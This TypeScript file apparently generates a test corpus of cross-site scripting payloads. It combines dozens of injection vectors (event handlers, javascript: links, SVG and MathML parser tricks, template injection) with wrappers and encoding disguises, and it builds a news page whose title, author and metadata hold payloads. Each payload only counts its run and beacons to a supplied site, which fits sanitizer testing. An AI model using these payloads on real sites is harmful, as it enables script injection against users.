// Pages that try to run a script in whoever reads them: ways to smuggle one in, times ways to hide it.

/** What each way tries to run; it counts in the page, and asks a site that must never be asked. */
const run = (site: string) => `window.ran=(window.ran||0)+1;new Image().src='${site}/ran'`

const ways: ((js: string, site: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (_js, site) => `<script src="${site}/x.js"></script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<svg onload="${js}"></svg>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s></animate></svg>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text x=9 y=9>svg</text></a></svg>`,
  (js) =>
    `<math><mtext><table><mglyph><style><img src=x onerror="${js}"></style></mglyph></table></mtext></math>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (_js, site) => `<iframe src="${site}/frame"></iframe>`,
  (js) => `<a href="javascript:${js}">a link</a>`,
  (js) => `<a href="&#106;avascript:${js}">a link</a>`,
  (js) => `<a href="java&#9;script:${js}">a link</a>`,
  (js) => `<a href="data:text/html,<script>${js}</script>">a link</a>`,
  (js) => `<details open ontoggle="${js}"><summary>s</summary>d</details>`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<audio src=x onerror="${js}"></audio>`,
  (js) => `<body onload="${js}">`,
  (js) => `<marquee onstart="${js}">m</marquee>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (_js, site) => `<embed src="${site}/e">`,
  (_js, site) => `<link rel=stylesheet href="${site}/s.css">`,
  (_js, site) => `<style>@import "${site}/i.css";body{background:url(${site}/b)}</style>`,
  (_js, site) => `<p style="background:url(${site}/b)">styled</p>`,
  (_js, site) => `<img src="${site}/pixel" srcset="${site}/pixel2 2x">`,
  (_js, site) => `<base href="${site}/">`,
  (_js, site) => `<meta http-equiv=refresh content="0;url=${site}/m">`,
  (js) => `<form><button formaction="javascript:${js}">b</button></form>`,
  (js) => `<textarea></textarea><img src=x onerror="${js}">`,
  (js) => `<title></title><img src=x onerror="${js}"></title>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror='${js.replaceAll("'", '"')}'>"></noscript>`,
  (js) => `<xmp></xmp><img src=x onerror="${js}">`,
  (js) => `<!--><img src=x onerror="${js}">-->`,
  (js) => `<template><script>${js}</script></template><img src=x onerror="${js}">`,
  (js) => `<p id=x contenteditable onfocus="${js}" tabindex=0 autofocus>text</p>`,
  (js) => `<select><option><img src=x onerror="${js}"></select>`,
  (js) => `<svg><foreignObject><img src=x onerror="${js}"></foreignObject></svg>`,
  (js) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${js}</script></svg>#x"/></svg>`,
  (js) => `{{constructor.constructor("${js.replaceAll('"', "'")}")()}}`,
  (js) => `]]><script>${js}</script>`,
]

const around: ((html: string) => string)[] = [
  (html) => html,
  (html) => `<p>Some words ${html} and more words.</p>`,
  (html) => `<blockquote><p>${html}</p></blockquote>`,
  (html) => `<ul><li>${html}</li></ul>`,
  (html) => `<table><tr><td>${html}</td></tr></table>`,
  (html) => `<h2>${html}</h2>`,
  (html) => `<strong><em>${html}</em></strong>`,
  (html) => `<svg><desc>${html}</desc></svg>`,
  (html) => `<math><mtext>${html}</mtext></math>`,
  (html) => `<div><span>${html}`,
]

const disguises: ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replace(/<(\w+)/g, (_all, name: string) => `<${name.toUpperCase()}`),
  (html) => html.replace(/<(\w+) /g, '<$1/'),
  (html) => html.replace(/<(\w+) /g, '<$1\n\f'),
  (html) => html.replace(/="([^"]*)"/g, '=\u0060$1\u0060'),
  (html) => html.replaceAll('&', '&amp;').replaceAll('<', '&lt;'),
]

/** Every way in every surrounding and disguise: 2,520 of them, always the same. */
export function payloads(site: string): string[] {
  const js = run(site)
  return ways.flatMap((way) => around.flatMap((wrap) => disguises.map((hide) => wrap(hide(way(js, site))))))
}

/** A page of news whose paragraphs, title, author and metadata all hold payloads. */
export function hostilePage(some: string[], site: string): string {
  const title = `Talks"><script>${run(site)}</script><img src=x onerror="${run(site)}">`
  const data = {
    '@context': 'https://schema.org',
    '@type': 'NewsArticle',
    headline: title,
    author: { name: title },
  }
  return `<!doctype html><html lang="en"><head><title>${title}</title>
<meta property="og:title" content='${title.replaceAll("'", '&#39;')}'>
<script type="application/ld+json">${JSON.stringify(data).replaceAll('</', '<\\/')}</script></head>
<body><article><h1>Talks on harbour lights</h1><p>${'Officials met in Geneva and spoke for four hours. '.repeat(8)}</p>
${some.map((each) => `<div><p>A paragraph of ordinary words before it, long enough to be kept.</p>${each}</div>`).join('\n')}
<p>${'The talks ended in the evening without a statement. '.repeat(8)}</p></article></body></html>`
}
